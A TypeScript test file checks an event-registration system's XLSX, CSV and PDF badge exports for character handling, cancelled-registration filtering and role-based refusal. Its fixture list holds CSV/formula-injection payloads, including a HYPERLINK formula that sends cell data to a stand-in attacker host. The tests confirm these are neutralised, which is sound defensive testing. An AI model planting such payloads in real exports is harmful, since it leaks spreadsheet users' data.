// The organizers' exports read back with the libraries a reader would use: the XLSX with exceljs,
// the CSV with papaparse, the badges' PDF with the PDF text extractor the meetings' tests use.
// Hostile cells typed on the public form (=, +, -, @, tab, carriage return) come back as text.
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { extractText } from "unpdf";
import { beforeAll, expect, it } from "vitest";
import { describeDatabases } from "../../db/testing.ts";
import { AppError } from "../../platform/errors.ts";
import { insertEventWithRoles, type EventRoles } from "./factories.ts";
import { insertQuestion, insertRegistrations, insertTicket } from "./registrations-factories.ts";
import {
  registrationBadgesPdf,
  registrationsCsv,
  registrationsXlsx,
} from "./registrations-exports.ts";

const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
  "+46 70 174 06 60",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

describeDatabases("registration exports", (ctx) => {
  let roles: EventRoles;
  let questionId: string;

  beforeAll(async () => {
    roles = await insertEventWithRoles(ctx.db, {
      status: "published",
      name: "Exportdagen",
      startDate: "2030-05-14",
      endDate: "2030-05-15",
    });
    const ordinary = await insertTicket(ctx.db, roles.event.id, {
      name: "Ordinarie",
      price: 250_000,
      position: 0,
    });
    const dayTwo = await insertTicket(ctx.db, roles.event.id, {
      name: "Dag 2",
      price: 150_050,
      validDate: "2030-05-15",
      position: 1,
    });
    questionId = (
      await insertQuestion(ctx.db, roles.event.id, { label: "Kost", purpose: "dietary" })
    ).id;
    await insertRegistrations(ctx.db, roles.event.id, [
      {
        ticketTypeId: ordinary.id,
        name: "Åsa Öberg",
        organizationName: "Region Jönköpings län",
        answers: { [questionId]: "Vegetarisk" },
      },
      {
        ticketTypeId: dayTwo.id,
        name: "Bjørn Ødegård",
        organizationName: "Sámi klinihkka Čáhcesuolu, Ŋ-ŧ-đ-ž-ł",
        price: 150_050,
      },
      { ticketTypeId: ordinary.id, name: "Avbokad Person", status: "cancelled" },
      ...hostile.map((value, index) => ({
        ticketTypeId: ordinary.id,
        name: `Fientlig ${index}`,
        organizationName: value,
        answers: { [questionId]: value },
      })),
    ]);
  });

  it("writes an XLSX whose cells read back as the registrations, formulas neutralized", async () => {
    const file = await registrationsXlsx(ctx.db, roles.leadEditor, roles.event.id, {}, "sv");
    expect(file.fileName).toBe("exportdagen-registrations.xlsx");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(file.body) as never);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual(
      expect.arrayContaining([
        "Status",
        "Biljett",
        "Namn",
        "Organisation",
        "Kost",
        "Pris exkl. moms (SEK)",
      ]),
    );
    const column = (name: string) => header.indexOf(name) + 1;
    const rows: ExcelJS.Row[] = [];
    sheet.eachRow((row, number) => {
      if (number > 1) rows.push(row);
    });
    expect(rows).toHaveLength(3 + hostile.length);
    const byName = new Map(rows.map((row) => [String(row.getCell(column("Namn")).value), row]));
    const asa = byName.get("Åsa Öberg")!;
    expect(asa.getCell(column("Organisation")).value).toBe("Region Jönköpings län");
    expect(asa.getCell(column("Kost")).value).toBe("Vegetarisk");
    expect(asa.getCell(column("Pris exkl. moms (SEK)")).value).toBe(2500);
    expect(byName.get("Bjørn Ødegård")!.getCell(column("Pris exkl. moms (SEK)")).value).toBe(
      1500.5,
    );
    expect(byName.get("Bjørn Ødegård")!.getCell(column("Dag")).value).toBe("2030-05-15");
    expect(byName.get("Avbokad Person")!.getCell(column("Status")).value).toBe("Avbokad");
    hostile.forEach((value, index) => {
      const row = byName.get(`Fientlig ${index}`)!;
      for (const name of ["Organisation", "Kost"]) {
        const cell = row.getCell(column(name));
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        // XML reads a carriage return as a line feed; the apostrophe leads either way.
        expect(cell.value).toBe(`'${value}`.replace(/\r/g, "\n"));
      }
    });
  });

  it("writes a CSV with the same rows, formulas neutralized, filtered like the list", async () => {
    const file = await registrationsCsv(ctx.db, roles.committeeMember, roles.event.id, {}, "en");
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(file.body);
    expect(text.startsWith("\uFEFF")).toBe(true);
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const [header, ...rows] = parsed.data;
    expect(header).toEqual(expect.arrayContaining(["Name", "Organization", "Kost"]));
    const name = header!.indexOf("Name");
    const organization = header!.indexOf("Organization");
    const diet = header!.indexOf("Kost");
    expect(rows).toHaveLength(3 + hostile.length);
    hostile.forEach((value, index) => {
      const row = rows.find((cells) => cells[name] === `Fientlig ${index}`)!;
      expect(row[organization]).toBe(`'${value}`);
      expect(row[diet]).toBe(`'${value}`);
    });
    const cancelledOnly = await registrationsCsv(
      ctx.db,
      roles.leadEditor,
      roles.event.id,
      { status: "cancelled" },
      "sv",
    );
    const cancelled = Papa.parse<string[]>(
      new TextDecoder("utf-8", { ignoreBOM: true }).decode(cancelledOnly.body).slice(1),
      {
        skipEmptyLines: true,
      },
    ).data;
    expect(cancelled.slice(1).map((row) => row[header!.indexOf("Name")])).toEqual([
      "Avbokad Person",
    ]);
  });

  it("prints name badges of the confirmed attendees as a PDF", async () => {
    const file = await registrationBadgesPdf(ctx.db, roles.leadAdmin, roles.event.id, {}, "sv");
    expect(file.contentType).toBe("application/pdf");
    const { text, totalPages } = await extractText(new Uint8Array(file.body), { mergePages: true });
    expect(totalPages).toBe(1);
    expect(text).toContain("Åsa Öberg");
    expect(text).toContain("Region Jönköpings län");
    expect(text).toContain("Bjørn Ødegård");
    expect(text).toContain("Sámi klinihkka Čáhcesuolu, Ŋ-ŧ-đ-ž-ł");
    expect(text).toContain("Dag 2 · 2030-05-15");
    expect(text).toContain("Exportdagen");
    expect(text).not.toContain("Avbokad Person");
  });

  it("refuses the exports to those who may not read registrations", async () => {
    for (const [who, code] of [
      [roles.partnerEditor, "forbidden"],
      [roles.outsider, "forbidden"],
      [null, "unauthenticated"],
    ] as const) {
      for (const write of [registrationsXlsx, registrationsCsv, registrationBadgesPdf]) {
        const error = await write(ctx.db, who, roles.event.id, {}, "sv").catch((caught) => caught);
        expect(error).toBeInstanceOf(AppError);
        expect((error as AppError).code).toBe(code);
      }
    }
  });
});
